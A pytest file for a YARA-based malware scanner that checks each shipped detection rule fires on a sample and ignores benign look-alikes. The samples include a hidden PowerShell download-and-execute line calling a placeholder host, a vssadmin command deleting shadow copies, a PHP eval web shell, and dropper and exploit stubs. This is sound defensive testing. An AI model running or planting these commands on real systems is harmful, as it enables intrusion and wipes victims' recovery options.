"""Every shipped rule fires on its own example and stays quiet on honest look-alikes."""

import os

import pytest

from releve.adapters.scan.rules import YaraRules, rules, shipped
from releve.detect.ransom.formats import Blob
from releve.flow.scan_ports import RulesError

if not os.environ.get("CI"):
    pytest.importorskip("yara_x")

LNK = b"L\0\0\0\x01\x14\x02\0" + bytes(70)
FIRING = {
    "ransom_note": "Vos fichiers ont été chiffrés. Paiement en bitcoin, par Tor Browser.".encode(),
    "recovery_sabotage": b"@echo off\r\nvssadmin.exe Delete Shadows /all /quiet\r\n",
    "powershell_download_and_run": (
        b"powershell -w hidden IEX (New-Object Net.WebClient).DownloadString('http://x/')"
    ),
    "powershell_encoded": b"powershell.exe -nop -enc " + b"SQBFAFgA" * 10,
    "office_macro_dropper": (
        b"\xd0\xcf\x11\xe0" + bytes(600) + b"AutoOpen" + bytes(9) + b"WScript.Shell"
    ),
    "script_dropper": b"new ActiveXObject('WScript.Shell');'MSXML2.XMLHTTP';f.SaveToFile('a')",
    "shortcut_to_interpreter": LNK + "powershell -w hidden".encode("utf-16-le"),
    "web_shell": b"<?php @eval($_POST['a']); ?>",
    "rtf_equation_exploit": b"{\\rtf1{\\object\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 01}}}",
    "pdf_launch": b"%PDF-1.4\n<< /S /Launch /Win << /F (cmd.exe) >> >>",
    "test_file": b"...$EICAR-STANDARD-ANTIVIRUS" + b"-TEST-FILE!...",
}
QUIET = {
    "a warning about ransoms": (
        "Consigne : si un message dit que vos fichiers sont chiffrés, ne payez pas, appelez le 17."
    ).encode(),
    "a backup script": b"robocopy D:\\cabinet E:\\cabinet /MIR\r\nwbadmin start backup\r\n",
    "an update script": b"Invoke-WebRequest https://exemple.invalid/a.msi -OutFile a.msi",
    "a macro that adds up": b"\xd0\xcf\x11\xe0" + bytes(600) + b"AutoOpen" + b"Range.Sum",
    "a shortcut to a folder": LNK + "C:\\Cabinet".encode("utf-16-le"),
    "a page with a form": b"<?php echo htmlspecialchars($_POST['nom']); ?>",
    "a PDF with a link": b"%PDF-1.4\n<< /S /URI /URI (https://exemple.invalid) >>",
    "noise": os.urandom(1 << 20),
    "a manual of Windows": b"vssadmin list shadows shows the shadow copies",
}


@pytest.fixture(scope="module")
def known():
    made = rules()
    assert isinstance(made, YaraRules)
    return made


def test_each_rule_has_an_example(known):
    assert set(known.names) == set(FIRING)


@pytest.mark.parametrize("name", FIRING)
def test_a_rule_fires_on_its_example(known, name):
    found = known.match(Blob(FIRING[name]), "x")
    assert name in [why.code for why in found]
    assert all(why.fr and why.en for why in found)


@pytest.mark.parametrize("name", QUIET)
def test_no_rule_fires_on_honest_work(known, name):
    assert known.match(Blob(QUIET[name]), "x") == ()


def test_every_rule_file_is_dated_licensed_and_sourced():
    for file in shipped():
        text = file.read_text()
        assert "Licence:" in text
        sources = (file.parent / "SOURCES.md").read_text()
        assert file.name in sources
        rules_in_it = text.count("\nrule ")
        assert text.count("\n    date = ") == text.count("\n    fr = ") == rules_in_it


def test_a_rule_of_ones_own_counts_too_and_a_broken_one_is_named(tmp_path):
    own = tmp_path / "maison.yar"
    own.write_text('rule maison { strings: $a = "jamais vu" condition: $a }')
    found = rules(tmp_path).match(Blob(b"jamais vu"), "x")
    assert [why.code for why in found] == ["maison"]
    own.write_text("rule maison {")
    with pytest.raises(RulesError, match=r"maison\.yar"):
        rules(tmp_path)
